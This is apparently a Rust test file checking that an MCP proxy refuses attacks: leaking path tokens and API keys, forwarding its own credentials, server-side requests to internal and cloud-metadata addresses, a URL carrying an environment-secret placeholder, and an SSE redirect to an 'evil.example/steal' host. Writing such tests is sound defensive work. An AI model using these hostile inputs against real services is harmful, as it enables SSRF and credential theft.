//! Attacks on the core, refused: credentials, path tokens, forwarded authorization.

mod harness;

use harness::*;
use mcp_proxy_core::{Config, Instant, Output, Proxy};

const FILE: &str = r#"{
  "mcpProxy": {"name": "agg", "adminTokens": ["adm"]},
  "mcpServers": {
    "open": {"command": "open-server"},
    "fetch/s3cret": {"command": "fetch-server", "options": {"authTokens": ["fetch-token"]}},
    "remote": {"transportType": "streamable-http", "url": "http://127.0.0.1:9/mcp", "options": {"forwardAuthorization": true}}
  }
}"#;

fn logs(outputs: &[Output]) -> String {
    outputs
        .iter()
        .filter_map(|o| if let Output::Log { message, .. } = o { Some(message.as_str()) } else { None })
        .collect::<Vec<_>>()
        .join("\n")
}

fn all_text(outputs: &[Output]) -> String {
    outputs.iter().map(|o| format!("{o:?}")).collect::<Vec<_>>().join("\n")
}

#[test]
fn path_tokens_never_leave_the_proxy() {
    let config = Config::from_json(&serde_json::json!({"configFile": {"text": FILE}}).to_string()).expect("valid");
    let mut proxy = Proxy::new(config, [1; 32], Instant(0));
    let started: Vec<Output> = std::iter::from_fn(|| proxy.poll_output()).collect();
    assert!(logs(&started).contains("serving fetch:"), "{}", logs(&started));
    assert!(!all_text(&started).contains("s3cret"), "startup lines: {}", logs(&started));

    let mut h = Harness::aggregator(FILE);
    let (exchange, outputs) = h.request("GET", "/api/servers", &[("authorization", "Bearer adm")], "");
    let (_, body) = response(&outputs, exchange).expect("listed");
    let text = body.to_string();
    assert!(!text.contains("s3cret"), "{text}");
    let fetch = body["servers"].as_array().expect("servers").iter().find(|s| s["name"] == "fetch").expect("fetch");
    assert_eq!(fetch["pathToken"], true);
    assert_eq!(fetch["paths"]["mcp"], "/fetch/{pathToken}/mcp");

    // A session on the path-token endpoint: its log lines name the server without the token.
    let (_, outputs) = h.post_to("/fetch/s3cret/mcp", None, &[("authorization", "Bearer fetch-token")], INIT);
    assert!(spawned(&outputs).is_some());
    assert!(!logs(&outputs).contains("s3cret"), "{}", logs(&outputs));
}

const INIT: &str = r#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#;

#[test]
fn merged_cursors_carry_no_server_name() {
    let file = r#"{"mcpServers": {"fetch/s3cret": {"command": "fetch-server", "options": {"authTokens": ["t"]}}}}"#;
    let mut h = Harness::aggregator(file);
    let auth = [("authorization", "Bearer t")];
    let (exchange, outputs) = h.post_to("/mcp", None, &auth, INIT);
    let upstream = spawned(&outputs).expect("the server joins through its header token");
    let outputs = h.upstream_says(upstream, r#"{"jsonrpc":"2.0","id":1,"result":{"capabilities":{"tools":{}}}}"#);
    let (head, _) = response(&outputs, exchange).expect("initialized");
    let session = header(&head.headers, "mcp-session-id").expect("session").to_owned();
    let (list, outputs) = h.post_to("/mcp", Some(&session), &auth, r#"{"jsonrpc":"2.0","id":2,"method":"tools/list"}"#);
    let id = sent_json(&outputs, upstream)[0]["id"].clone();
    let outputs = h.upstream_says(
        upstream,
        &format!(r#"{{"jsonrpc":"2.0","id":{id},"result":{{"tools":[{{"name":"get"}}],"nextCursor":"page-2"}}}}"#),
    );
    let (_, body) = response(&outputs, list).expect("listed");
    let cursor = body["result"]["nextCursor"].as_str().expect("a merged cursor");
    assert!(!cursor.contains("s3cret"), "{cursor}");
    assert_eq!(body["result"]["tools"][0]["name"], "fetch__get");
}

#[test]
fn the_proxys_own_credentials_are_not_forwarded_upstream() {
    let file = r#"{"mcpServers": {"remote": {"transportType": "streamable-http", "url": "http://127.0.0.1:9/mcp",
                   "options": {"forwardAuthorization": true}}}}"#;
    let json = serde_json::json!({"configFile": {"text": file}, "apiKey": "the-api-key"}).to_string();
    let mut h = Harness::with_config(&json);
    // The API key presented as a bearer token opened the proxy's door: it must not go on.
    let (_, outputs) = h.post_to("/remote/mcp", None, &[("authorization", "Bearer the-api-key")], INIT);
    let post = fetches(&outputs).into_iter().find(|f| f.method == "POST").expect("forwarded initialize");
    assert!(
        !post.headers.iter().any(|h| h.name.eq_ignore_ascii_case("authorization")),
        "the API key leaked upstream: {:?}",
        post.headers
    );
    // A credential of the client's own (presented besides the API key) does go on.
    let (_, outputs) =
        h.post_to("/remote/mcp", None, &[("x-api-key", "the-api-key"), ("authorization", "Bearer users-own")], INIT);
    let post = fetches(&outputs).into_iter().find(|f| f.method == "POST").expect("forwarded initialize");
    let forwarded = post.headers.iter().find(|h| h.name.eq_ignore_ascii_case("authorization")).map(|h| &h.value);
    assert_eq!(forwarded.map(String::as_str), Some("Bearer users-own"));
}

fn admin_harness(extra: &str) -> Harness {
    let file = r#"{"mcpProxy": {"adminTokens": ["adm"]}, "mcpServers": {"a": {"command": "a"}}}"#;
    Harness::with_config(&format!(
        r#"{{"configFile": {{"text": {}}}{extra}}}"#,
        serde_json::to_string(file).expect("json")
    ))
}

fn add(h: &mut Harness, body: &str) -> (u16, serde_json::Value, Vec<Output>) {
    let headers = [("content-type", "application/json"), ("authorization", "Bearer adm")];
    let (exchange, outputs) = h.request("POST", "/api/servers", &headers, body);
    let (head, body) = response(&outputs, exchange).expect("answered");
    (head.status, body, outputs)
}

#[test]
fn servers_added_at_run_time_cannot_reach_inside() {
    let mut h = admin_harness("");
    for url in
        ["http://127.0.0.1:8080/mcp", "http://169.254.169.254/latest", "http://localhost/sse", "http://[::1]/mcp"]
    {
        let body = serde_json::json!({"name": "x", "config": {"transportType": "streamable-http", "url": url}});
        let (status, body, _) = add(&mut h, &body.to_string());
        assert_eq!(status, 400, "{url}: {body}");
        assert!(body["error"]["message"].as_str().is_some_and(|m| m.contains("not a public address")), "{body}");
    }
    let (status, body, _) =
        add(&mut h, r#"{"name": "x", "config": {"url": "https://mcp.example/sse?key=${AWS_SECRET_ACCESS_KEY}"}}"#);
    assert_eq!(status, 400, "{body}");
    // A DNS name is allowed, but every fetch for it says: public addresses only.
    let (status, _, _) = add(
        &mut h,
        r#"{"name": "named", "config": {"transportType": "streamable-http", "url": "https://mcp.example/mcp"}}"#,
    );
    assert_eq!(status, 201);
    let (_, outputs) = h.post_to("/named/mcp", None, &[], INIT);
    let post = fetches(&outputs).into_iter().next().expect("initialize goes out");
    assert!(post.public_only, "the shell must check the resolved addresses");
    // The operator can name exceptions.
    let mut allowed = admin_harness(r#", "allowRuntimeHosts": ["127.0.0.1"]"#);
    let (status, _, _) = add(
        &mut allowed,
        r#"{"name": "local", "config": {"transportType": "streamable-http", "url": "http://127.0.0.1:9/mcp"}}"#,
    );
    assert_eq!(status, 201);
    let (_, outputs) = allowed.post_to("/local/mcp", None, &[], INIT);
    assert!(!fetches(&outputs)[0].public_only);
}

#[test]
fn configured_servers_are_trusted() {
    let file = r#"{"mcpServers": {"local": {"transportType": "streamable-http", "url": "http://127.0.0.1:9/mcp"}}}"#;
    let mut h = Harness::aggregator(file);
    let (_, outputs) = h.post_to("/local/mcp", None, &[], INIT);
    assert!(!fetches(&outputs)[0].public_only);
}

#[test]
fn a_legacy_sse_endpoint_on_another_origin_gets_nothing() {
    let file = r#"{"mcpServers": {"legacy": {"url": "http://127.0.0.1:9/sse", "headers": {"Authorization": "Bearer upstream-secret"}}}}"#;
    let mut h = Harness::aggregator(file);
    let (exchange, outputs) = h.post_to("/legacy/mcp", None, &[], INIT);
    let stream = fetches(&outputs).into_iter().find(|f| f.method == "GET").expect("the SSE stream opens");
    head(&mut h, stream.fetch, 200, &[("content-type", "text/event-stream")]);
    let outputs = h.input(mcp_proxy_core::Input::FetchData {
        fetch: stream.fetch,
        data: b"event: endpoint\ndata: http://evil.example/steal\n\n".to_vec(),
    });
    assert!(fetches(&outputs).is_empty(), "nothing is sent to another origin: {:?}", fetches(&outputs));
    let (head, body) = response(&outputs, exchange).expect("the client's initialize fails at once");
    assert!(head.status >= 400 || body["error"].is_object(), "{body}");
    assert!(logs(&outputs).contains("another origin"), "{}", logs(&outputs));
}

fn spawned_env(outputs: &[Output]) -> Vec<(String, String)> {
    outputs
        .iter()
        .find_map(|o| if let Output::Spawn { server, .. } = o { Some(server.env.clone()) } else { None })
        .expect("a child is started")
}

#[test]
fn children_never_see_the_proxys_secrets() {
    let environment = serde_json::json!([
        ["PATH", "/usr/bin"],
        ["HOME", "/home/u"],
        ["GITHUB_TOKEN", "gh"],
        ["MCP_PROXY_API_KEY", "the-key"],
        ["MCP_PROXY_SESSION_KEY", "sealing"],
        ["LEAKED", "hdr-secret"]
    ]);
    let bridge = serde_json::json!({
        "server": {"command": "srv"}, "apiKey": "the-key", "environment": environment, "secrets": ["hdr-secret"]
    });
    let mut h = Harness::with_config(&bridge.to_string());
    let (_, outputs) = h.post_to("/mcp", None, &[("x-api-key", "the-key")], INIT);
    let names: Vec<String> = spawned_env(&outputs).into_iter().map(|(k, _)| k).collect();
    assert_eq!(names, ["PATH", "HOME", "GITHUB_TOKEN"], "the bridge passes the user's environment, not the secrets");

    let file = r#"{"mcpServers": {"listed": {"command": "a", "env": {"OWN": "1"}},
                                   "all": {"command": "b", "options": {"inheritEnv": true}}}}"#;
    let json = serde_json::json!({"configFile": {"text": file}, "environment": environment});
    let mut h = Harness::with_config(&json.to_string());
    let (_, outputs) = h.post_to("/listed/mcp", None, &[], INIT);
    let names: Vec<String> = spawned_env(&outputs).into_iter().map(|(k, _)| k).collect();
    assert_eq!(names, ["PATH", "HOME", "OWN"], "a configured server gets the SDKs' short list and its own env");
    let (_, outputs) = h.post_to("/all/mcp", None, &[], INIT);
    let names: Vec<String> = spawned_env(&outputs).into_iter().map(|(k, _)| k).collect();
    assert_eq!(names, ["PATH", "HOME", "GITHUB_TOKEN", "LEAKED"], "inheritEnv: all but the MCP_PROXY_ ones");
}
